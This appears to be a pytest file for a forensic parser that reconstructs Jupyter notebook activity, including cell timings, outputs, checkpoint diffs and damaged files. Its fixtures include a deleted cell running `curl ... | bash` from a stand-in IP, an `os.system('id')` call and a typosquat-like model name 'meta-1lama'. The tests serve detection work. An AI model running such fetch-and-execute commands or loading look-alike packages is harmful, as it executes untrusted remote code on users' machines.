"""Jupyter notebooks built with nbformat: cells, execution counts, JupyterLab timing (exact to the
millisecond), error and stream outputs, checkpoint differences, and damaged files."""

import json
from datetime import UTC, datetime, timedelta

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from parser_helpers import T0, errors, of, put, run

from mlsleuth.events import Category, TimestampQuality

NB = "/home/alice/work/eval.ipynb"
CP = "/home/alice/work/.ipynb_checkpoints/eval-checkpoint.ipynb"


def timed(cell, start: datetime, seconds: float):
    end = start + timedelta(seconds=seconds)
    z = lambda t: t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"  # noqa: E731 - as JupyterLab writes it
    cell.metadata["execution"] = {"iopub.execute_input": z(start), "iopub.status.busy": z(start),
                                  "shell.execute_reply": z(end), "iopub.status.idle": z(end)}
    return cell


def notebook(cells) -> str:
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nbformat.writes(nb)


def cells_v1():
    start = datetime(2026, 11, 10, 9, 19, 30, 412000, tzinfo=UTC)
    return [
        new_markdown_cell("# eval"),
        timed(new_code_cell("from transformers import AutoModel", execution_count=1), start, 2.5),
        timed(new_code_cell('m = AutoModel.from_pretrained("meta-1lama/x")', execution_count=2,
                            outputs=[new_output("stream", name="stderr", text="Downloading: 100%\n")]),
              start + timedelta(seconds=10), 20.25),
        new_code_cell("import os; os.system('id')", execution_count=3,
                      outputs=[new_output("error", ename="NameError", evalue="name 'x' is not defined",
                                          traceback=["\x1b[0;31mNameError\x1b[0m: name 'x'"])]),
        new_code_cell("never_run()"),
    ]


def test_cells_timings_and_outputs(tmp_path):
    put(tmp_path, NB, notebook(cells_v1()), mtime=T0)
    events = run(tmp_path, NB, "notebook")
    assert not errors(events)
    executed = of(events, "Cell Executed")
    assert [e.extra["execution_count"] for e in executed] == [1, 2, 3]
    assert executed[0].timestamp == datetime(2026, 11, 10, 9, 19, 30, 412000, tzinfo=UTC)
    assert executed[0].timestamp_quality == TimestampQuality.EXACT and executed[0].extra["duration_ms"] == 2500
    assert executed[1].cmdline == 'm = AutoModel.from_pretrained("meta-1lama/x")'
    assert executed[2].timestamp == T0 and executed[2].timestamp_quality == TimestampQuality.FILE_TIME
    assert executed[1].evidence.endswith("eval.ipynb#/cells/2")
    stream = of(events, "Cell Stream Output")[0]
    assert stream.extra["stream"] == "stderr" and "Downloading" in stream.extra["text"]
    assert stream.timestamp == datetime(2026, 11, 10, 9, 20, 0, 662000, tzinfo=UTC)  # at the reply
    error = of(events, "Cell Error Output")[0]
    assert error.extra["ename"] == "NameError" and "\x1b" not in error.extra["traceback"]
    assert of(events, "Cell Saved")[0].cmdline == "never_run()"
    saved = of(events, "Notebook Saved")[0]
    assert saved.timestamp == T0 and saved.extra["cells"] == 5 and saved.extra["executed"] == 3


def test_code_run_then_deleted_comes_from_the_checkpoint(tmp_path):
    old = cells_v1()
    old.insert(3, timed(new_code_cell("!curl -s http://203.0.113.9/x | bash", execution_count=4,
                                      outputs=[new_output("stream", name="stdout", text="ok\n")]),
                        datetime(2026, 11, 10, 9, 21, tzinfo=UTC), 1))
    put(tmp_path, CP, notebook(old), mtime=T0 - timedelta(minutes=5))
    put(tmp_path, NB, notebook(cells_v1()), mtime=T0)
    events = run(tmp_path, NB, "notebook")
    deleted = of(events, "Cell Executed Then Deleted")
    assert [e.cmdline for e in deleted] == ["!curl -s http://203.0.113.9/x | bash"]
    assert deleted[0].timestamp == datetime(2026, 11, 10, 9, 21, tzinfo=UTC)
    assert deleted[0].evidence.endswith("eval-checkpoint.ipynb#/cells/3")
    assert deleted[0].source == "notebook"
    # the checkpoint's own parse only reports its save (the notebook parse covers its cells)
    assert [e.timestamp_desc for e in run(tmp_path, CP, "notebook")] == ["Checkpoint Saved"]


def test_checkpoint_without_its_notebook_reports_its_cells(tmp_path):
    put(tmp_path, CP, notebook(cells_v1()), mtime=T0)
    events = run(tmp_path, CP, "notebook")
    executed = of(events, "Cell Executed")
    assert len(executed) == 3 and "notebook is gone" in executed[0].extra["note"]


def test_truncated_notebook_keeps_complete_cells(tmp_path):
    text = notebook(cells_v1())
    cut = text.index("never_run")
    put(tmp_path, NB, text[:cut], mtime=T0)
    events = run(tmp_path, NB, "notebook")
    assert "recovered 4 complete cells" in errors(events)[0].message
    assert [e.extra["execution_count"] for e in of(events, "Cell Executed")] == [1, 2, 3]


def test_v3_notebook_is_upgraded(tmp_path):
    v3 = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "old"},
          "worksheets": [{"cells": [{"cell_type": "code", "input": "import pickle", "language": "python",
                                     "prompt_number": 7, "outputs": [], "metadata": {}}], "metadata": {}}]}
    put(tmp_path, NB, json.dumps(v3), mtime=T0)
    events = run(tmp_path, NB, "notebook")
    executed = of(events, "Cell Executed")
    assert [(e.cmdline, e.extra["execution_count"]) for e in executed] == [("import pickle", 7)]


def test_garbage_notebooks_do_not_crash(tmp_path):
    put(tmp_path, "/home/a/x.ipynb", b"\xff\xfe not json at all", mtime=T0)
    put(tmp_path, "/home/a/y.ipynb", "[1, 2, 3]", mtime=T0)
    put(tmp_path, "/home/a/z.ipynb", json.dumps({"cells": [None, 3, {"cell_type": "code", "source": 5,
                                                                      "execution_count": "x",
                                                                      "outputs": "bad"}]}), mtime=T0)
    for name in ("x", "y", "z"):
        events = run(tmp_path, f"/home/a/{name}.ipynb", "notebook")
        assert all(e.category in (Category.PARSE_ERROR, Category.FILE) for e in events), name


def test_bytes_that_are_not_utf8_inside_json_strings_are_kept_escaped(tmp_path):
    text = notebook(cells_v1()).encode()
    text = text.replace(b"from transformers import AutoModel", b"from transformers import AutoModel # \xff\xfe")
    put(tmp_path, NB, text, mtime=T0)
    events = run(tmp_path, NB, "notebook")
    assert not errors(events)
    assert of(events, "Cell Executed")[0].cmdline == "from transformers import AutoModel # \\xff\\xfe"
    put(tmp_path, NB, text[: text.index(b"never_run")], mtime=T0)  # and when truncated too
    events = run(tmp_path, NB, "notebook")
    assert of(events, "Cell Executed")[0].cmdline.endswith("# \\xff\\xfe")
